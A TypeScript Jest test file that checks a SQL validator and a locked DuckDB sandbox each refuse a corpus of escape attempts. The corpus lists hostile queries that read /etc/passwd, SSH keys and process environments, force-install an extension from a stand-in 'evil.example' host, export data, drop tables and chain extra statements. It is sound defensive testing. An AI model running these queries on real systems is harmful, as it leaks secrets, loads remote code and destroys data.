/**
 * The escape corpus. Every attempt is refused, and each layer is proved on its
 * own: `validator` attempts are refused by `validateSql` alone, `sandbox` attempts are refused by
 * the locked DuckDB alone, with the validator bypassed. Most attempts are stopped by both.
 */
import { afterAll, beforeAll, describe, it, expect } from '@jest/globals';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { DuckDBConnection, DuckDBInstance } from '@duckdb/node-api';
import { createSqlParser, validateSql } from '@uda/shared/sql';
import type { SqlParser } from '@uda/shared/sql';
import { buildFixtureDb, writeParquet } from '../test/fixtures.ts';
import { openSandbox, openSheetSandbox } from './sandbox.ts';

type Layer = 'validator' | 'sandbox';
const both: Layer[] = ['validator', 'sandbox'];
const V: Layer[] = ['validator'];
const S: Layer[] = ['sandbox'];

const CORPUS: [string, Layer[]][] = [
  // Replacement scans
  ["SELECT * FROM 'data.csv'", S],
  ["FROM '/etc/passwd'", S],
  ["SELECT * FROM '/etc/passwd'", S],
  ['SELECT * FROM "/etc/hosts"', S],
  ["FROM 'https://example.com/x.parquet'", S],
  ["FROM 's3://bucket/x.parquet'", S],
  ["FROM '~/.ssh/id_rsa'", S],
  ["SELECT * FROM '/proc/self/environ'", S],
  // File, SQL-text and metadata functions
  ["SELECT * FROM read_text('/etc/passwd')", both],
  ["SELECT * FROM read_blob('/etc/passwd')", both],
  ["SELECT * FROM glob('/*')", both],
  ["SELECT * FROM sniff_csv('/etc/passwd')", both],
  ["SELECT * FROM read_csv('/etc/passwd')", both],
  ["SELECT * FROM read_csv_auto('/etc/passwd')", both],
  ["SELECT * FROM read_parquet('/tmp/x.parquet')", both],
  ["SELECT * FROM read_json_auto('/etc/x.json')", both],
  ["SELECT * FROM read_ndjson_objects('/etc/x')", both],
  ["SELECT * FROM parquet_metadata('/tmp/x.parquet')", both],
  ["SELECT * FROM parquet_schema('/tmp/x.parquet')", both],
  ["SELECT content FROM read_text('.data/objects/exports/manifest.json')", both],
  ["SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')')", both],
  ["SELECT * FROM query_table('/etc/passwd')", both],
  ["SELECT * FROM query_table('gutenberg')", V],
  ["SELECT * FROM query('SELECT 1')", V],
  ["SELECT * FROM iceberg_scan('s3://bucket/table')", both],
  ["SELECT * FROM delta_scan('/tmp/delta')", both],
  ["SELECT * FROM postgres_scan('host=localhost', 'public', 't')", both],
  ["SELECT * FROM sqlite_scan('/tmp/x.sqlite', 't')", both],
  // Statements that change settings, files, extensions or data
  ['SET enable_external_access = true', both],
  ['SET lock_configuration = false', both],
  ['RESET enable_external_access', both],
  ['SET GLOBAL threads = 64', both],
  ["SET temp_directory = '/tmp/elsewhere'", both],
  ['PRAGMA threads = 64', both],
  ['PRAGMA enable_profiling', V],
  ["ATTACH '/tmp/evil.db' AS evil", both],
  ["ATTACH 'md:' AS motherduck", both],
  ['DETACH service', both],
  ["COPY gutenberg TO '/tmp/out.csv'", both],
  ["COPY (SELECT 1) TO '/tmp/out.parquet' (FORMAT parquet)", both],
  ["COPY gutenberg FROM '/etc/passwd'", both],
  ["EXPORT DATABASE '/tmp/dump'", both],
  ["EXPORT\n\tDATABASE '/tmp/dump'", both],
  ["IMPORT DATABASE '/tmp/dump'", both],
  ['INSTALL httpfs', both],
  ['LOAD httpfs', both],
  ["FORCE INSTALL httpfs FROM 'http://evil.example'", both],
  ["LOAD '/tmp/evil.duckdb_extension'", both],
  ['CREATE TABLE x AS SELECT 1', both],
  ['INSERT INTO gutenberg (text_id) VALUES (1)', both],
  ["UPDATE gutenberg SET title = 'x'", both],
  ['DELETE FROM gutenberg', both],
  ['DROP TABLE gutenberg', both],
  ['ALTER TABLE gutenberg ADD COLUMN x INT', both],
  ['TRUNCATE gutenberg', both],
  ['CHECKPOINT', V], // a no-op on a read-only database, so only the validator has something to refuse
  ['CALL duckdb_settings()', V],
  ['EXPLAIN ANALYZE SELECT 1', V],
  // Comments, case, quoting and multiple statements
  ["SeLeCt * FrOm ReAd_TeXt('/etc/passwd')", both],
  ["SELECT * FROM/**/read_text('/etc/passwd')", both],
  ["SELECT * FROM \"read_text\"('/etc/passwd')", both],
  ['SELECT 1; DROP TABLE gutenberg', both],
  ["SELECT 1; ATTACH '/tmp/x.db'", both],
  ["SELECT 1 -- harmless\n; COPY gutenberg TO '/tmp/x'", both],
  ["/* harmless */ COPY gutenberg TO '/tmp/x.csv'", both],
  ["SELECT 1; SET enable_external_access = true; SELECT * FROM read_text('/etc/passwd')", both],
  // Unicode look-alikes: NFKC folds full-width letters; other scripts are not keywords to DuckDB
  ["ＣＯＰＹ gutenberg TO '/tmp/x'", both],
  ["ＳＥＴ threads = 64", both],
  ["SELECT * FROM reаd_text('/etc/passwd')", S],
  // Leaks of paths and settings
  ['SELECT * FROM duckdb_settings()', V],
  ["SELECT current_setting('temp_directory')", V],
  ['SELECT * FROM duckdb_databases()', V],
  ['SELECT * FROM duckdb_extensions()', V],
  ['SELECT * FROM pragma_database_list()', V],
  ["SELECT getenv('HOME')", both],
];

const corpusDir = await mkdtemp(join(tmpdir(), 'uda-escape-'));
let parser: SqlParser;
let instance: DuckDBInstance;
let connection: DuckDBConnection;
let sheetSandbox: { instance: DuckDBInstance; connection: DuckDBConnection };
const limits = { memoryLimit: '256MB', threads: 1, maxTempSize: '64MB', tempDirectory: join(corpusDir, 'tmp') };

beforeAll(async () => {
  parser = await createSqlParser();
  const dbPath = await buildFixtureDb(join(corpusDir, 'service.db'), { books: 100 });
  instance = await openSandbox(dbPath, limits);
  connection = await instance.connect();
  const sheet = await writeParquet(join(corpusDir, 'sheet.parquet'), "SELECT 1 AS a, 'x' AS b");
  sheetSandbox = await openSheetSandbox(dbPath, limits, [{ name: 'my_sheet', path: sheet }]);
});

afterAll(async () => {
  connection.closeSync();
  instance.closeSync();
  sheetSandbox.connection.closeSync();
  sheetSandbox.instance.closeSync();
  parser.close();
  await rm(corpusDir, { recursive: true, force: true });
});

const refusedBy = async (c: DuckDBConnection, sql: string) => c.run(sql).then(() => false, () => true);

describe('escape corpus', () => {
  it('holds at least 60 attempts, each assigned to at least one layer', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(60);
    expect(CORPUS.every(([, layers]) => layers.length > 0)).toBe(true);
  });

  it.each(CORPUS.filter(([, l]) => l.includes('validator')).map(([sql]) => [sql]))('the validator alone refuses %j', async (sql) => {
    expect((await validateSql(sql, parser)).ok).toBe(false);
  });

  it.each(CORPUS.filter(([, l]) => l.includes('sandbox')).map(([sql]) => [sql]))('the sandbox alone refuses %j', async (sql) => {
    expect(await refusedBy(connection, sql)).toBe(true);
  });

  it.each(CORPUS.filter(([, l]) => l.includes('sandbox')).map(([sql]) => [sql]))(
    'the sandbox with a connected sheet alone refuses %j',
    async (sql) => {
      expect(await refusedBy(sheetSandbox.connection, sql)).toBe(true);
    },
  );
});

describe('sandbox settings', () => {
  it('is locked with external access off and the database read-only', async () => {
    const reader = await connection.runAndReadAll(
      "SELECT current_setting('enable_external_access'), current_setting('lock_configuration'), current_setting('autoload_known_extensions'), current_setting('autoinstall_known_extensions')",
    );
    expect(reader.getRowsJson()).toEqual([[false, true, false, false]]);
  });

  it('still answers ordinary queries, and the connected sheet is a table after the lock-down', async () => {
    expect((await connection.runAndReadAll('SELECT count(*)::INT FROM gutenberg')).getRowsJson()).toEqual([[100]]);
    const joined = await sheetSandbox.connection.runAndReadAll('SELECT a, b, (SELECT count(*)::INT FROM gutenberg) FROM my_sheet');
    expect(joined.getRowsJson()).toEqual([[1, 'x', 100]]);
  });
});
